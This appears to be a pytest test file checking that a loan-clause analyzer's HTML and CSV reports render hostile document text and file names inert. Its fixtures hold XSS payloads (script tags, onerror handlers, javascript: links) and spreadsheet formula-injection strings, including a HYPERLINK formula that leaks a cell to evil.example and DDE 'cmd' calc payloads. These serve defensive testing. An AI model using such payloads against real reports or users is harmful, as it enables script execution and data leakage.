"""Hostile text and file names come out inert: HTML escaped, spreadsheet formulas neutralized.

A document is attacker-controlled input. What it says ends up in reports that people open in a
browser (--format html) or a spreadsheet (--format csv); neither may run anything the document wrote.
"""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest

from analyzer.api import Analyzer
from analyzer.render import writer
from analyzer.render.csvfmt import COLUMNS, safe_cell
from analyzer.results import Analysis

ROOT = Path(__file__).resolve().parent.parent
HTML_RENDERER = ROOT / "analyzer" / "render" / "html.py"
_EXE = Path(sys.executable).with_name("analyze")
ANALYZE = [str(_EXE)] if _EXE.exists() else [sys.executable, "-c", "from analyzer.cli import main; main()"]

SCRIPT = "<script>alert(1)</script>"
HOSTILE_TEXT = (
    "NON-RECOURSE NOTE <img src=x onerror=alert(2)>\n\n"
    f"9. Exculpation {SCRIPT}. The Borrower shall not be personally liable for the payment of the Loan "
    f"{SCRIPT} and Lender shall look solely to the Property.\n\n"
    "10. Notwithstanding the foregoing, Borrower shall be personally liable for losses arising from fraud "
    "<a href=\"javascript:alert(3)\">x</a> \"quoted\" & 'single' </section></main><style>*{}</style>.\n"
)
HOSTILE_NAMES = ["<script>alert('n')<script>.txt", "<img src=x onerror=alert(4)>.txt", "a\"b'c&d<e>f.txt",
                 "=HYPERLINK(\"http:evil\",\"x\").txt"]
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "\t=1+1", "\r=1+1"]

needs_html = pytest.mark.skipif(not HTML_RENDERER.exists(), reason="analyzer/render/html.py not written yet")


class _Inertness(HTMLParser):
    """Collects everything in a page that could run: script/iframe/object tags, on* attributes,
    javascript: URLs, and images that are not embedded PNG data."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.active: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        policy = tag == "meta" and dict(attrs).get("http-equiv") == "Content-Security-Policy"
        if tag in ("script", "iframe", "object", "embed", "base", "meta") and not policy and not (
                tag == "meta" and all(k in ("charset", "name", "content") for k, _ in attrs)):
            self.active.append(f"<{tag}>")
        for k, v in attrs:
            if k.startswith("on"):
                self.active.append(f"{tag} {k}=")
            # a link to a sibling page of the report (a relative .html path, no scheme) is inert too
            local = k == "href" and v and v.endswith(".html") and ":" not in v and not v.startswith(("/", "\\"))
            if k in ("href", "src", "action", "formaction") and v and not local and not (
                    v.startswith("#") or v.startswith("data:image/png;base64,")):
                self.active.append(f"{tag} {k}={v[:40]}")


def _assert_inert(page: str) -> None:
    assert "<script" not in page.lower()
    assert SCRIPT not in page
    p = _Inertness()
    p.feed(page)
    p.close()
    assert p.active == [], p.active


def _render(fmt: str, results: list[Analysis]) -> str:
    buf = io.StringIO()
    w = writer(fmt, buf)
    for r in results:
        w.write(r)
    w.close()
    return buf.getvalue()


@pytest.fixture(scope="module")
def hostile_files(tmp_path_factory) -> list[Path]:
    folder = tmp_path_factory.mktemp("hostile")
    paths = []
    for i, name in enumerate(HOSTILE_NAMES):
        p = folder / name
        p.write_text(HOSTILE_TEXT + f"\nCopy {i}.\n", encoding="utf-8")
        paths.append(p)
    return paths


@pytest.fixture(scope="module")
def hostile_results(hostile_files) -> list[Analysis]:
    a = Analyzer(ocr="never")
    results = [a.analyze(p) for p in hostile_files]
    assert all(r.error is None and r.evidence for r in results), [r.error for r in results]
    assert any(SCRIPT in e.text for r in results for e in r.evidence), "the script tag sits inside a clause"
    return results


@needs_html
def test_html_report_escapes_document_text_and_names(hostile_results) -> None:
    page = _render("html", hostile_results)
    _assert_inert(page)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page  # shown, as text
    assert "&lt;img src=x onerror=alert(4)&gt;.txt" in page


@needs_html
def test_html_report_escapes_error_records() -> None:
    bad = Analysis(path="<script>alert(5)</script>.pdf", error=f"corrupt PDF: {SCRIPT}", error_code="corrupt",
                   warnings=[SCRIPT])
    _assert_inert(_render("html", [bad]))
    _assert_inert(_render("html", [bad, bad]))


@needs_html
def test_cli_html_output_is_inert(hostile_files, tmp_path) -> None:
    out = tmp_path / "report.html"
    proc = subprocess.run([*ANALYZE, str(hostile_files[0].parent), "-o", str(out), "--quiet", "--workers", "1"],
                          capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr
    _assert_inert(out.read_text(encoding="utf-8"))  # the index
    pages = [p.read_text(encoding="utf-8") for p in (tmp_path / "report_files").glob("*.html")]
    for page in pages:
        _assert_inert(page)
    assert sum(page.count("<section") for page in pages) >= len(HOSTILE_NAMES)


@pytest.mark.parametrize("value", FORMULAS)
def test_safe_cell_neutralizes_formula_starts(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-5", "+3.25", "0.93", "recourse", "", None, 12, "a=1"])
def test_safe_cell_leaves_plain_values(value) -> None:
    assert safe_cell(value) == ("" if value is None else str(value))


def _csv_rows(page: str) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(page)))
    assert rows and list(rows[0]) == COLUMNS
    return rows


def _dangerous(cell: str) -> bool:
    return cell[:1] in ("=", "+", "@", "\t", "\r") or (cell[:1] == "-" and not _number(cell))


def _number(s: str) -> bool:
    try:
        float(s)
    except ValueError:
        return False
    return True


def test_csv_neutralizes_clause_text_and_names() -> None:
    a = Analyzer(ocr="never")
    results = []
    for f in FORMULAS[:4]:
        text = f"{f} The Borrower shall not be personally liable for the payment of the Loan.\n"
        r = a.analyze(text, name=f + ".txt")
        assert r.error is None and r.evidence, r.error
        results.append(r)
    results.append(Analysis(path="@evil.pdf", error="-corrupt", error_code="corrupt", warnings=["=w"]))
    rows = _csv_rows(_render("csv", results))
    for row in rows:
        for col, cell in row.items():
            assert not _dangerous(cell), (col, cell)
    assert rows[0]["path"] == "'" + FORMULAS[0] + ".txt"
    assert rows[0]["decisive_text"].startswith("'=HYPERLINK(")
    assert rows[1]["decisive_text"].startswith("'+1+cmd")
    assert rows[2]["decisive_text"].startswith("'-2+3")
    assert rows[3]["decisive_text"].startswith("'@SUM")
    assert rows[4]["path"] == "'@evil.pdf" and rows[4]["error"] == "'-corrupt" and rows[4]["warnings"] == "'=w"


def test_cli_csv_neutralizes_file_names(tmp_path) -> None:
    """File names given on the command line land as-is in the path cell: each must come out neutralized."""
    names = ['=HYPERLINK("http:evil","x").txt', "+1+cmd.txt", "-2+cmd.txt", "@SUM(1).txt", "<b>&x.txt"]
    for n in names:
        (tmp_path / n).write_text(HOSTILE_TEXT, encoding="utf-8")
    proc = subprocess.run([*ANALYZE, "--format", "csv", "--quiet", "--workers", "1", "--", *names], cwd=tmp_path,
                          capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr
    rows = _csv_rows(proc.stdout)
    assert sorted(row["path"] for row in rows) == sorted(safe_cell(n) for n in names)
    for row in rows:
        assert row["label"] in ("recourse", "limited-recourse", "non-recourse")
        for col, cell in row.items():
            assert not _dangerous(cell), (col, cell)
